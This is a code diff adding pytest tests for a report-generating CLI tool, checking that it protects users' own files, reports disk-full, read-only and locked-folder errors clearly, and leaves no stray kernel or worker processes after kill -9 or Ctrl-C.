+    params, out = _one_client_params(tmp_path), tmp_path / "mine"
+    (out / ".staging").mkdir(parents=True)
+    (out / "notes.txt").write_text("my notes")
+    (out / "index.html").write_text("<p>my own page</p>")
+    (out / ".staging" / "keep.txt").write_text("keep me")
+    before = _snapshot(out)
+    code, output, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        assert "did not write" in output and ".kpi-workbook" in output and str(out) in output, output
+        assert _snapshot(out) == before, "the folder was changed"
+        return "refused; folder unchanged"
+
+    _checked(row, f"exit {code}", check)
+
+
+def test_run_never_overwrites_a_foreign_index_html(tmp_path: Path, monkeypatch, record) -> None:
+    row = record("out_folder_foreign_index", "a marked output folder where the user put their own `index.html`",
+                 "exit 1; names index.html; the user's file untouched")
+    params, out = _one_client_params(tmp_path), tmp_path / "reports"
+    out.mkdir()
+    (out / ".kpi-workbook").write_text("")
+    (out / "index.html").write_text("<p>my own page</p>")
+    code, output, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        assert "index.html was not written by KPI Workbook" in output, output
+        assert (out / "index.html").read_text() == "<p>my own page</p>"
+        return "refused; index.html unchanged"
+
+    _checked(row, f"exit {code}", check)
+
+
+def test_a_client_id_equal_to_a_foreign_folder_never_replaces_it(tmp_path: Path, monkeypatch, record) -> None:
+    row = record("out_folder_client_id_is_foreign_folder", "client `notes` while the (marked) output folder holds "
+                 "the user's own `notes/todo.txt`", "client failed with a clear reason; `notes/` untouched; "
+                 "listed in index.html")
+    params, out = _one_client_params(tmp_path, "notes", "Notes BV"), tmp_path / "reports"
+    (out / "notes").mkdir(parents=True)
+    (out / ".kpi-workbook").write_text("")
+    (out / "notes" / "todo.txt").write_text("buy milk")
+    code, output, result = run_cli_batch(params, out, monkeypatch, workers=1)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        notes = {r.client: r for r in result.results}["notes"]
+        assert notes.status == "failed" and "was not written by KPI Workbook" in notes.reason, notes
+        assert _snapshot(out / "notes") == {"todo.txt": b"buy milk"}
+        assert "was not written by KPI Workbook" in (out / "index.html").read_text()
+        return "failed with reason; notes/ unchanged"
+
+    _checked(row, f"exit {code}", check)
+
+
+def test_a_second_run_on_a_locked_folder_exits_with_a_clear_message(tmp_path: Path, monkeypatch, record) -> None:
+    from kpi_helpers.outdir import RunLock
+
+    row = record("out_folder_locked", "`run` while another run holds the output folder's lock",
+                 "exit 1 at once: another run (pid) is writing there; nothing written")
+    params, out = _one_client_params(tmp_path), tmp_path / "reports"
+    out.mkdir()
+    (out / ".kpi-workbook").write_text("")
+    with RunLock(out):
+        before = _snapshot(out)
+        code, output, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+        after = _snapshot(out)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        assert f"another kpi-workbook run (pid {os.getpid()})" in output, output
+        assert after == before
+        return "refused with the holder's pid"
+
+    _checked(row, f"exit {code}", check)
+
+
+def test_a_full_disk_is_a_clear_error_without_half_written_files(tmp_path: Path, monkeypatch, record) -> None:
+    import builtins
+    import errno
+
+    import kpi_helpers.outdir as outdir
+
+    row = record("disk_full", "`run` where writing index.html fails with ENOSPC (disk full)", "exit 1; 'the disk "
+                 "is full'; no traceback; no 0-byte or temporary file left")
+    params = tmp_path / "params"
+    params.mkdir()
+    (params / "broken.yaml").write_text("name: [unclosed\n")  # invalid: no kernel, only the overview is written
+    out = tmp_path / "reports"
+
+    def full_disk(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
+        if "w" in mode and "index" in str(file):
+            handle = builtins.open(file, mode, *args, **kwargs)
+            handle.close()
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return builtins.open(file, mode, *args, **kwargs)
+
+    monkeypatch.setattr(outdir, "open", full_disk, raising=False)
+    code, output, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        assert "the disk is full" in output and "index.html" in output, output
+        leftovers = [p.name for p in out.iterdir() if p.is_file() and (p.stat().st_size == 0 or ".tmp" in p.name)]
+        assert leftovers == [".kpi-workbook.lock"] or not leftovers, leftovers
+        return "clear message; no half-written file"
+
+    _checked(row, f"exit {code}", check)
+
+
+def test_a_read_only_output_folder_is_a_clear_error(tmp_path: Path, monkeypatch, record) -> None:
+    import errno
+
+    row = record("read_only_output", "`run --out` on a read-only file system (EROFS)", "exit 1; 'read-only file "
+                 "system'; no traceback")
+    params, out = _one_client_params(tmp_path), tmp_path / "ro" / "reports"
+    real_mkdir = Path.mkdir
+
+    def read_only(self: Path, *args: Any, **kwargs: Any) -> None:
+        if str(self).startswith(str(tmp_path / "ro")):
+            raise OSError(errno.EROFS, "Read-only file system", str(self))
+        real_mkdir(self, *args, **kwargs)
+
+    monkeypatch.setattr(Path, "mkdir", read_only)
+    code, output, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+
+    def check() -> str:
+        assert code == 1 and "Traceback" not in output, output
+        assert "read-only file system" in output, output
+        return "clear message"
+
+    _checked(row, f"exit {code}", check)
+
+
+# ---------------------------------------------------------------- processes die with the run (issue 16.6, 16.7; slow)
+
+
+def _hanging_clients(tmp_path: Path, names: dict[str, str]) -> Path:
+    from conftest import write_client
+
+    params = tmp_path / "params"
+    params.mkdir(exist_ok=True)
+    for client, name in names.items():
+        write_client(params, client, name)  # the fixture 02 notebook sleeps when the name holds "hang"
+    return params
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_kill_9_of_run_leaves_no_process_behind(tmp_path: Path, record) -> None:
+    import signal
+
+    from hostile.processes import alive, descendants, kernels_below, start_run, wait_for
+
+    row = record("run_kill_9", "`kill -9` of `run` while two workers each run a hanging notebook",
+                 "within seconds no worker, kernel or helper process is left; no `.staging/`")
+    params = _hanging_clients(tmp_path, {"hang-one": "Hang One hang", "hang-two": "Hang Two hang"})
+    out = tmp_path / "reports"
+    proc = start_run(params, out)
+    try:
+        assert wait_for(lambda: len(kernels_below(proc.pid)) >= 2, 120), "kernels did not start"
+        time.sleep(2)  # both notebooks are inside their sleep now
+        below = descendants(proc.pid)
+        os.kill(proc.pid, signal.SIGKILL)
+        proc.wait(10)
+        gone = wait_for(lambda: not [p for p in below if alive(p)], 20)
+        left = sorted((p, cmdline(p)[:80]) for p in below if alive(p))
+    finally:
+        for p in descendants(proc.pid) | locals().get("below", set()):
+            if alive(p):
+                os.kill(p, signal.SIGKILL)
+
+    def check() -> str:
+        assert gone, f"still running after 20 s: {left}"
+        assert not (out / ".staging").exists() or not any((out / ".staging").iterdir()), "staging left behind"
+        return f"{len(below)} processes (workers, kernels, queue helpers) all gone"
+
+    _checked(row, "killed", check)
+
+
+def cmdline(pid: int) -> str:
+    from hostile.processes import cmdline as read
+
+    return read(pid)
+
+
+def _mtime(path: Path) -> int | None:
+    try:
+        return path.stat().st_mtime_ns
+    except OSError:
+        return None
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(400)
+def test_ctrl_c_stops_the_run_and_a_second_run_is_refused(tmp_path: Path, monkeypatch, record) -> None:
+    import signal
+
+    from hostile.processes import alive, descendants, kernels_below, start_run, wait_for
+
+    rows = {
+        "run_ctrl_c": record("run_ctrl_c", "Ctrl-C (SIGINT to the process group) while one client hangs in a "
+                             "notebook", "stops within seconds; exit 130, 'interrupted', no traceback; the earlier "
+                             "good report kept; no kernel, no `.staging/`; foreign files in `.staging/` kept"),
+        "run_concurrent": record("run_concurrent", "a second `run` on the same `--out` while the first runs",
+                                 "the second exits 1 at once with 'another kpi-workbook run (pid …)'; the first "
+                                 "is not disturbed"),
+    }
+    params = _hanging_clients(tmp_path, {"alpha": "Alpha Shop", "beta": "Beta Shop"})
+    out = tmp_path / "reports"
+    first = run_cli_batch(params, out, monkeypatch, workers=2)
+    assert first[0] == 0, first[1]
+    beta_before = _snapshot(out / "beta")
+    (out / ".staging").mkdir()
+    (out / ".staging" / "keep.txt").write_text("not the tool's")
+    (params / "beta.yaml").write_text((params / "beta.yaml").read_text().replace("Beta Shop", "Beta Shop hang"))
+
+    alpha_before = _mtime(out / "alpha" / "summary.json")
+    proc = start_run(params, out)
+    try:
+        assert wait_for(lambda: _mtime(out / "alpha" / "summary.json") not in (alpha_before, None)
+                        and len(kernels_below(proc.pid)) >= 1, 150), "alpha was not re-run"
+        time.sleep(3)  # beta is inside its hanging notebook now
+        code2, output2, _ = run_cli_batch(params, out, monkeypatch, workers=1)
+        below = descendants(proc.pid)
+        os.killpg(proc.pid, signal.SIGINT)
+        started = time.monotonic()
+        stdout, stderr = proc.communicate(timeout=60)
+        stopped_after = time.monotonic() - started
+        left = sorted(p for p in below if alive(p))
+        gone = wait_for(lambda: not [p for p in below if alive(p)], 15)
+    finally:
+        if proc.poll() is None:
+            os.killpg(proc.pid, signal.SIGKILL)
+
+    def concurrent() -> str:
+        assert code2 == 1 and f"another kpi-workbook run (pid {proc.pid})" in output2, output2
+        return "second run refused with the first run's pid"
+
+    def interrupted() -> str:
+        assert proc.returncode == 130, (proc.returncode, stderr[-2000:])
+        assert "interrupted" in stderr and "Traceback" not in stderr + stdout, stderr[-2000:]
+        assert stopped_after < 45, f"took {stopped_after:.0f} s to stop"
+        assert gone, f"left running: {left}"
+        assert _snapshot(out / "beta") == beta_before, "beta's previous good report changed"
+        index = json.loads((out / "index.json").read_text())
+        status = {c["client"]: c["status"] for c in index["clients"]}
+        assert status.get("beta") == "interrupted", status
+        assert (out / ".staging" / "keep.txt").read_text() == "not the tool's"
+        assert [p.name for p in (out / ".staging").iterdir()] == ["keep.txt"], "a staging folder was left"
+        return f"exit 130; beta interrupted, its old report kept; statuses {sorted(status.items())}"
+
+    failures = []
+    for key, check in (("run_concurrent", concurrent), ("run_ctrl_c", interrupted)):
+        try:
+            rows[key].done(check())
+        except AssertionError as error:
+            rows[key].failed("run interrupted", str(error).splitlines()[0])
+            failures.append(f"{key}: {error}")
+    assert not failures, "\n\n".join(failures)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_a_kernel_that_dies_at_start_is_replaced(monkeypatch, record) -> None:
+    """The --dask race: two kernels picked the same free port; the one that lost dies at start."""
+    import socket
+
+    import kpi_helpers.batch as batch
+
+    row = record("kernel_start_retried", "a kernel whose shell port is already taken (what `--dask local` hit when "
+                 "kernels started at the same moment)", "the dead kernel is replaced; the client gets a live kernel")
+    taken = socket.socket()
+    taken.bind(("127.0.0.1", 0))
+    taken.listen()
+    port = taken.getsockname()[1]
+    real, calls = batch._start_kernel, []
+
+    async def start(cwd: str) -> Any:
+        if not calls:  # the first kernel loses the race for its port
+            from jupyter_client.manager import AsyncKernelManager
+
+            calls.append("taken")
+            km = AsyncKernelManager(kernel_name="python3")
+            km.cache_ports, km.shell_port = False, port  # jupyter_client would pick its own free ports otherwise
+            await km.start_kernel(cwd=cwd, extra_arguments=["--IPKernelApp.log_level=CRITICAL"])
+            batch._Kernels.live.add(km)
+            km._kpi_client = km.client()
+            km._kpi_client.start_channels()
+            return km
+        calls.append("fresh")
+        return await real(cwd)
+
+    monkeypatch.setattr(batch, "_start_kernel", start)
+    km = None
+    try:
+        km = batch._Kernels.run(batch._Kernels.take(str(Path.cwd())))
+        live = batch._Kernels.run(km.is_alive())
+    finally:
+        batch._Kernels.run(batch._shutdown(km))
+        taken.close()
+
+    def check() -> str:
+        assert calls == ["taken", "fresh"], calls
+        assert live
+        return "first kernel died (port in use) and was replaced"
+
+    _checked(row, "kernel taken", check)
